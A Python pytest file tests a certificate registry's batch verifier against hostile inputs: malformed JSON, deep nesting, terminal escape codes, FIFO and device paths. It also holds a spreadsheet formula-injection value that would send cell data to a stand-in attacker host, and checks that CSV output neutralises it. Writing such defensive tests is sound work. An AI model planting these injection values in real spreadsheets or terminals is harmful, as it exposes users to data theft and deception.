"""Batch verification that always finishes (issue 10): every input row gives
exactly one output row, in order, strict JSON (checked with Node's JSON.parse
as well as Python's) or CSV, with the id echoed by the documented rule; an
``image`` that is a FIFO, a device, a directory, too large or too slow is a
``malformed`` row, never a hang."""

import csv
import io
import json
import os
import sqlite3
import subprocess

import builders
import pytest
from PIL import Image

from registry.core import payload
from registry.core.exceptions import PayloadError
from registry.marks import render
from registry.verify import batch, image, listings

SITE_URL = "https://szzz.example.cn"


@pytest.fixture(scope="module")
def world(make_registry):
    """A published LOG_REGISTRY (valid, revoked, suspended certificates), the mark
    URLs of its valid and revoked certificates, and the valid one's printed mark."""
    w = builders.published(make_registry(**builders.LOG_REGISTRY))
    conn = sqlite3.connect(w["db"])
    marks = dict(conn.execute("select cert_no, mark_payload from certificates"))
    conn.close()
    valid, revoked = w["certs"]["valid"], w["certs"]["revoked"]
    url = payload.mark_url(SITE_URL, marks[valid])
    png = render.write_mark(render.mark_info(valid, "SZZZ", "valid", marks[valid], url), w["base"] / "marks")["png"]
    return {**w, "url": url, "revoked_url": payload.mark_url(SITE_URL, marks[revoked]), "png": png}


def run(world, rows, **kw):
    out = io.StringIO()
    counts = batch.verify_batch(rows, world["site"], root_public_key=world["root"], out=out,
                                today=builders.TODAY, **kw)
    return out.getvalue(), counts


def reject_constant(name):
    raise ValueError(f"not strict JSON: {name}")


def strict_rows(text):
    """Output lines parsed by Python's json refusing NaN/Infinity, after checking
    that they are UTF-8 and free of lone surrogates and terminal controls."""
    text.encode("utf-8")                 # a lone surrogate cannot be encoded
    assert "\u2028" not in text and "\u202e" not in text and "\x1b" not in text
    return [json.loads(line, parse_constant=reject_constant) for line in text.split("\n")[:-1]]


NODE_STRICT = r"""
const bytes = require("fs").readFileSync(process.argv[1]);
const text = new TextDecoder("utf-8", {fatal: true}).decode(bytes);   // throws on bad UTF-8
const lines = text.split("\n");
if (lines.pop() !== "") throw new Error("output does not end with a line break");
const rows = lines.map((line) => JSON.parse(line));                     // RFC 8259: no NaN, no Infinity
for (const row of rows) {
  for (const v of [row.id, row.reason, row.reason_zh]) {
    if (typeof v === "string" && !v.isWellFormed()) throw new Error("lone surrogate: " + JSON.stringify(row));
  }
}
console.log(JSON.stringify(rows.map((r) => [r.row, r.id, r.verdict])));
"""


def node_rows(tmp_path, text):
    path = tmp_path / "out.jsonl"
    path.write_bytes(text.encode("utf-8"))
    done = subprocess.run(["node", "-e", NODE_STRICT, str(path)], capture_output=True, text=True, timeout=60,
                          check=False)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def hostile_jsonl(world):
    url = world["url"]

    def with_id(id_json, column="url", value=url):
        return '{"id": ' + id_json + ', "' + column + '": ' + json.dumps(value) + "}"

    return [
        (with_id('"ok"'), "ok", "valid"),
        (with_id('"\\ud800"'), None, "malformed"),                  # lone surrogate id
        (with_id("NaN"), None, "malformed"),                        # not JSON
        (with_id("1e999"), "1e999", "valid"),                       # a number beyond float: as written
        ('"a bare string, never echoed as the reason"', None, "malformed"),
        (with_id("123456789012345678901234567890"), "123456789012345678901234567890", "valid"),
        ("[" * 50_000 + "]" * 50_000, None, "malformed"),           # nesting
        (with_id('{"a": [1, {"b": 2}]}'), None, "malformed"),
        (with_id("42", "url", world["revoked_url"]), 42, "revoked"),
        (with_id('"\\u001b[2J\\u202eevil\\u2028x\\u0085"'), "\x1b[2J\u202eevil\u2028x\x85", "valid"),
        (with_id('"=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"点击\\")"'),
         '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "valid"),
        ('{"id": "row", "url": "\\udcff"}', "row", "malformed"),  # a lone surrogate input
        (with_id('"c"', "cert_no", world["certs"]["suspended"]), "c", "suspended"),
        (with_id('"p"', "payload", "0" * 5000), "p", "malformed"),
    ]


def test_hostile_jsonl_gives_one_strict_row_per_line_in_order(world, tmp_path):
    cases = hostile_jsonl(world)
    path = tmp_path / "listings.jsonl"
    path.write_bytes("\n".join(line for line, _, _ in cases).encode("utf-8") + b"\n\xff\xfe\n")
    expected = [(n, ident, verdict) for n, (_, ident, verdict) in enumerate(cases, 1)]
    expected.append((len(cases) + 1, None, "malformed"))            # bytes that are not UTF-8
    for workers in (1, 2):
        text, counts = run(world, listings.read_rows(path), workers=workers)
        rows = strict_rows(text)
        assert [(r["row"], r["id"], r["verdict"]) for r in rows] == expected
        assert node_rows(tmp_path, text) == [list(e) for e in expected]
        assert counts == {"valid": 5, "revoked": 1, "suspended": 1, "malformed": 8}
    reasons = {r["row"]: r["reason"] for r in rows}
    assert reasons[2] == "id is not Unicode text (lone surrogate U+D800 at character 1)"
    assert reasons[3] == "line is not JSON: NaN is not a JSON value (RFC 8259)"
    assert reasons[5] == "row is text, expected an object"
    assert reasons[7] == "JSON nested deeper than the parser allows"
    assert reasons[8] == "id is an object, expected text or a number"
    assert reasons[12] == "column url is not Unicode text (lone surrogate U+DCFF at character 1)"
    assert reasons[15].startswith("not UTF-8: byte 0xFF at byte 1 of the line")
    # Terminal controls and line separators are escaped in the JSON text, the value unchanged.
    line10 = text.split("\n")[9]
    assert '"id": "\\u001b[2J\\u202eevil\\u2028x\\u0085"' in line10


def test_csv_output_is_the_same_rows_with_formulas_neutralised(world, tmp_path):
    path = tmp_path / "listings.jsonl"
    path.write_text("\n".join(line for line, _, _ in hostile_jsonl(world)[:11]) + "\n", encoding="utf-8")
    as_json = strict_rows(run(world, listings.read_rows(path), workers=2)[0])
    text, _ = run(world, listings.read_rows(path), workers=2, output="csv")
    data = (batch.csv_header() + text).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    table = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert list(table[0]) == list(batch.CSV_COLUMNS)
    assert len(table) == len(as_json) == 11
    for cells, row in zip(table, as_json, strict=True):
        assert int(cells["row"]) == row["row"] and cells["verdict"] == row["verdict"]
        assert cells["cert_no"] == (row["cert_no"] or "") and cells["reason_zh"] == row["reason_zh"]
        assert [cells[f"check_{k}"] for k in row["checks"]] == [
            {True: "true", False: "false", None: ""}[v] for v in row["checks"].values()]
    # The id a spreadsheet would run as a formula gets a leading apostrophe (OWASP);
    # JSONL keeps the true value.
    assert table[10]["id"] == "'" + as_json[10]["id"] and as_json[10]["id"].startswith("=HYPERLINK(")
    assert table[9]["id"] == as_json[9]["id"]          # CSV cells are values, not terminal text
    assert [c["id"] for c in table[:9]] == ["ok", "", "", "1e999", "", "123456789012345678901234567890",
                                              "", "", "42"]


def test_library_records_with_python_ids_follow_the_same_rule(world):
    rows = [{"id": float("nan"), "url": world["url"]}, {"id": 2**60, "url": world["url"]},
            {"id": (1, 2), "url": world["url"]}, "not an object", {"id": 5, "url": b"bytes"}]
    text, _ = run(world, rows, workers=1)
    got = [(r["row"], r["id"], r["verdict"], r["reason"]) for r in strict_rows(text)]
    assert got[:2] == [(1, "NaN", "valid", got[0][3]), (2, "1152921504606846976", "valid", got[1][3])]
    assert got[2:] == [(3, None, "malformed", "id is an array, expected text or a number"),
                       (4, None, "malformed", "row is text, expected an object"),
                       (5, 5, "malformed", "column url is bytes, expected text")]


# ------------------------------------------------------------------- images

def test_image_rows_read_only_regular_files(world, tmp_path):
    fifo = tmp_path / "mark.png"
    os.mkfifo(fifo)
    not_image = tmp_path / "notes.png"
    not_image.write_text("not a picture")
    rows = [{"id": "fifo", "image": str(fifo)}, {"id": "dir", "image": str(tmp_path)},
            {"id": "device", "image": "/dev/zero"}, {"id": "missing", "image": str(tmp_path / "none.png")},
            {"id": "text", "image": str(not_image)}, {"id": "mark", "image": str(world["png"])}]
    text, _ = run(world, rows, workers=2)
    got = {r["id"]: (r["verdict"], r["reason"]) for r in strict_rows(text)}
    assert got["mark"][0] == "valid"
    expected = "cannot read image: observed {}, expected a regular file"
    assert got["fifo"] == ("malformed", f"{fifo}: " + expected.format("a FIFO (named pipe)"))
    assert got["dir"] == ("malformed", f"{tmp_path}: " + expected.format("a directory"))
    assert got["device"] == ("malformed", "/dev/zero: " + expected.format("a character device"))
    assert got["missing"][0] == "malformed" and "cannot read image ([Errno 2]" in got["missing"][1]
    assert got["text"][0] == "malformed" and "cannot read image" in got["text"][1]


@pytest.fixture(scope="module")
def huge_png(tmp_path_factory):
    """A blank 7000 x 7000 picture: a small file that takes well over a second to decode."""
    path = tmp_path_factory.mktemp("huge") / "huge.png"
    Image.new("L", (7000, 7000), 255).save(path)
    return path


def test_an_image_that_takes_too_long_is_malformed_at_the_limit(world, huge_png):
    """The decoder is stopped at the limit (a full decode of this picture takes
    seconds), and the run goes on with the next row."""
    text, _ = run(world, [{"id": "slow", "image": str(huge_png)}, {"id": "next", "url": world["url"]}],
                  workers=1, image_timeout=0.1)
    rows = strict_rows(text)
    assert [(r["id"], r["verdict"]) for r in rows] == [("slow", "malformed"), ("next", "valid")]
    assert rows[0]["reason"] == f"{huge_png}: image not decoded within the limit of 0.1 s"


def test_decode_image_limits(world, huge_png, tmp_path):
    before = own_children()
    assert image.decode_image(world["png"]) == world["url"]
    with pytest.raises(PayloadError, match="image file larger than the limit of 1,000 bytes"):
        image.decode_image(world["png"], max_bytes=1000)
    with pytest.raises(PayloadError, match=r"not decoded within the limit of 0\.1 s"):
        image.decode_image(huge_png, timeout=0.1)
    # No decoder process is left behind (nor a zombie), whatever happened.
    assert own_children() <= before


def own_children():
    """This process's children, zombies included, from /proc."""
    return {p for p in os.listdir("/proc") if p.isdigit() and parent_of(p) == os.getpid()}


def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return None

